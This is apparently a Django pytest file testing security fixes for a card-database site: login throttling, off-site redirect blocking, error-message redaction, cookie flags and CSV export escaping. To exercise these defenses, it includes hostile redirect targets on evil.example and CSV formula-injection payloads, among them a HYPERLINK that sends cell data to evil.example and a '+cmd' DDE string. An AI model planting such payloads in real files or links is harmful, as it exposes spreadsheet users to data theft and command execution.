"""Issue 19, findings 7, 8, 15, 16 and 17: the admin's login throttled, no open redirect after sign-up,
the broker-outage message without the broker's address, the language cookie's flags in production,
and CSV exports that a spreadsheet does not run as formulas."""
from __future__ import annotations

import csv
import io
import json
import os
import secrets
import subprocess
import sys

import pytest
from django.conf import settings as dj_settings
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from rest_framework.throttling import SimpleRateThrottle

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def fast_hasher(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


# -- 7. /admin/login/ ---------------------------------------------------------------------------------
def test_admin_login_is_throttled_like_the_sites(settings):
    settings.LOGIN_FAILURES_USER = "5/15m"
    settings.LOGIN_FAILURES_IP = "30/15m"
    User.objects.create_superuser("root", "root@example.org", "right-admin-pw-1")
    c = Client()
    for i in range(5):
        r = c.post("/admin/login/", {"username": "root", "password": f"wrong-{i}"})
        assert r.status_code == 200 and "_auth_user_id" not in c.session
    r = c.post("/admin/login/", {"username": "root", "password": "right-admin-pw-1"})  # 40 guesses, then this
    assert r.status_code == 429 and 0 < int(r["Retry-After"]) <= 15 * 60
    assert "_auth_user_id" not in c.session and "Too many failed log-ins" in r.content.decode()
    # the same budget as the site's form and the token endpoint
    assert Client().post("/accounts/login/", {"username": "root", "password": "right-admin-pw-1"}).status_code == 429
    assert Client().get("/admin/login/").status_code == 200


def test_a_good_admin_login_still_works_and_clears_the_count():
    User.objects.create_superuser("root", "root@example.org", "right-admin-pw-1")
    c = Client()
    assert c.post("/admin/login/", {"username": "root", "password": "wrong"}).status_code == 200
    r = c.post("/admin/login/?next=/admin/", {"username": "root", "password": "right-admin-pw-1", "next": "/admin/"})
    assert r.status_code == 302 and c.session["_auth_user_id"]
    assert Client().get("/admin/").status_code == 302  # others still need to log in


# -- 8. sign-up ?next= --------------------------------------------------------------------------------
@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/x", "/\\evil.example", "http:evil.example",
                                    "javascript:alert(1)", "https://testserver.evil.example/"])
def test_signup_never_redirects_off_site(target, monkeypatch):
    monkeypatch.setitem(SimpleRateThrottle.THROTTLE_RATES, "anon", "1000/minute")
    r = Client().post(f"/accounts/signup/?next={target}",
                      {"username": f"new{secrets.token_hex(3)}", "password1": "Sign-Up-Pass-77", "password2": "Sign-Up-Pass-77"})
    assert r.status_code == 302 and r["Location"] == "/decks/", r["Location"]


def test_signup_follows_a_next_on_this_site():
    r = Client().post("/accounts/signup/?next=/decks/new/?game=pc",
                      {"username": "newcomer", "password1": "Sign-Up-Pass-77", "password2": "Sign-Up-Pass-77"})
    assert r.status_code == 302 and r["Location"] == "/decks/new/?game=pc"


# -- 15. the broker-outage message ----------------------------------------------------------------------
@pytest.mark.django_db(transaction=True)
def test_the_broker_outage_message_does_not_name_the_broker(settings):
    from rest_framework.test import APIClient

    from config.celery import app
    from playtest.models import PlaytestJob
    from tests.test_playtest_pages import deck_text, load_catalog

    load_catalog("ws")
    host = "127.0.0.1:6391"  # nothing listens there
    old = {k: app.conf[k] for k in ("broker_url", "task_always_eager", "broker_connection_retry",
                                    "broker_connection_max_retries", "broker_transport_options")}
    app.conf.update(broker_url=f"redis://{host}/0", task_always_eager=False, broker_connection_retry=False,
                    broker_connection_max_retries=0, broker_transport_options={"max_retries": 0})
    app._pool = None
    app.amqp._producer_pool = None
    settings.PLAYTEST_EXECUTOR = "celery"
    try:
        c = APIClient()
        r = c.post("/api/v1/playtests/", {"game": "ws", "text": deck_text("ws-skylark"), "games": 10}, format="json")
    finally:
        app.conf.update(old)
        app._pool = None
        app.amqp._producer_pool = None
    assert r.status_code == 503 and r.json()["error"]["code"] == "queue_unavailable"
    job = PlaytestJob.objects.get()
    shown = [r.content.decode(), job.error, c.get(f"/api/v1/playtests/{job.share_slug}/").content.decode(),
             Client().get(f"/p/{job.share_slug}/").content.decode()]
    for text in shown:
        assert "6391" not in text and "127.0.0.1" not in text and "redis://" not in text, text[:500]
    assert "could not be reached" in job.error


# -- 16. the language cookie ---------------------------------------------------------------------------
PROBE = r"""
import json, django
django.setup()
from django.core.management import call_command
call_command("migrate", verbosity=0, run_syncdb=True)
from django.test import Client
c = Client()
r = c.get("/accounts/login/", secure=True, HTTP_HOST="example.org")
csrf = r.cookies["csrftoken"].value
r = c.post("/i18n/setlang/", {"language": "ja", "next": "/", "csrfmiddlewaretoken": csrf}, secure=True,
           HTTP_HOST="example.org", HTTP_REFERER="https://example.org/")
k = r.cookies["tcgdb_language"]
print("PROBE " + json.dumps({"status": r.status_code, "secure": bool(k["secure"]), "samesite": k["samesite"],
                             "httponly": bool(k["httponly"]), "value": k.value}))
"""


def test_the_language_cookie_is_secure_and_samesite_in_production(tmp_path):
    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "REDIS_URL", "CACHE_URL",
                                                             "DJANGO_ALLOW_ASYNC_UNSAFE")}
    env.update({"DJANGO_SETTINGS_MODULE": "config.settings", "DJANGO_DEBUG": "0",
                "DJANGO_SECRET_KEY": secrets.token_urlsafe(50), "DJANGO_ALLOWED_HOSTS": "example.org",
                "DATABASE_URL": f"sqlite:///{tmp_path / 'prod.sqlite3'}", "TCGDB_VAR_DIR": str(tmp_path)})
    out = subprocess.run([sys.executable, "-c", PROBE], env=env, cwd=dj_settings.BASE_DIR, capture_output=True,
                         text=True, timeout=120)
    assert out.returncode == 0, out.stderr[-3000:]
    got = json.loads(next(x for x in out.stdout.splitlines() if x.startswith("PROBE "))[len("PROBE "):])
    assert got == {"status": 302, "secure": True, "samesite": "Lax", "httponly": True, "value": "ja"}


# -- 17. CSV export ---------------------------------------------------------------------------------------
def test_csv_export_neutralises_formula_cells_and_reads_back_unchanged(tmp_path):
    from catalog.models import Card
    from tests.search_testdata import make_card

    hostile = {"name": '=HYPERLINK("https://evil.example/?"&A1,"Click")', "text": "+cmd|' /C calc'!A0",
               "work": "-2+3", "rarity": "@SUM(1+1)", "set_code": "\tTAB", "flavor": "'=already quoted"}
    make_card(game="ws", code="CSV/W01-001", card_type="character", level=0, cost=0, power=1000, soul=1,
              colors=["yellow"], **{k: v for k, v in hostile.items() if hasattr(Card, k)})
    out = tmp_path / "ws.csv"
    call_command("export_cards", game="ws", fmt="csv", output=str(out))
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", (cell, "a spreadsheet would run this")
    before = {k: getattr(Card.objects.get(code="CSV/W01-001"), k) for k in hostile if hasattr(Card, k)}
    Card.objects.all().delete()
    call_command("import_cards", str(out), game="ws", fmt="csv", verbosity=0)
    after = {k: getattr(Card.objects.get(code="CSV/W01-001"), k) for k in before}
    assert after == before  # the round trip stays lossless
